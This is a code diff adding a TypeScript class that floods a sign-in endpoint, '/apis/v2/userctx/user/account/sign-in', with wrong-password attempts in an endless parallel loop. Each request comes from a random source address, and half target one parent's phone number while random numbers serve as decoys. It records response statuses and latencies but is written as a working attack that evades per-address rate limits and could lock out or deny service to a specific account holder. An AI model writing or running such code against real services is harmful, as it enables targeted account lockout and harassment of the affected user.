@@ -1,0 +1,46 @@
+import { randomInt } from 'node:crypto';
+import { jsonRequest, openConnection, randomAddress, StatusCounts, statusOf } from './raw-client.js';
+import type { AttackTarget } from './raw-client.js';
+
+const PATH = '/apis/v2/userctx/user/account/sign-in';
+const RETRY_MS = 100;
+
+/**
+ * Sends wrong passwords in parallel, each from another address: half of them for the phone number of a parent, the
+ * others for random ones, whose limits are never reached. The next ones follow when all have been answered.
+ */
+export class WrongPasswords {
+  readonly statuses = new StatusCounts();
+  readonly latencies: number[] = [];
+
+  constructor(
+    private readonly target: AttackTarget,
+    private readonly phoneNumber: string,
+  ) {}
+
+  async run(parallel: number): Promise<never> {
+    for (;;) {
+      await Promise.all(Array.from({ length: parallel }, (_, index) => this.guess(index % 2 === 0)));
+    }
+  }
+
+  private async guess(isForParent: boolean): Promise<void> {
+    const phoneNumber = isForParent ? this.phoneNumber : `138${String(randomInt(10 ** 8)).padStart(8, '0')}`;
+    const sentAt = performance.now();
+    const status = await this.send({ areaCode: '+86', phoneNumber, password: `wrong-password-${randomInt(10 ** 6)}` });
+    this.statuses.add(status);
+    this.latencies.push(performance.now() - sentAt);
+  }
+
+  private send(body: object): Promise<number | string> {
+    return new Promise((resolve) => {
+      const socket = openConnection(this.target, randomAddress());
+      socket.write(jsonRequest(PATH, body));
+      socket.once('data', (bytes: Buffer) => {
+        resolve(statusOf(bytes) ?? 'malformed response');
+        socket.destroy();
+      });
+      socket.once('close', () => setTimeout(resolve, RETRY_MS, 'connection closed'));
+    });
+  }
+}
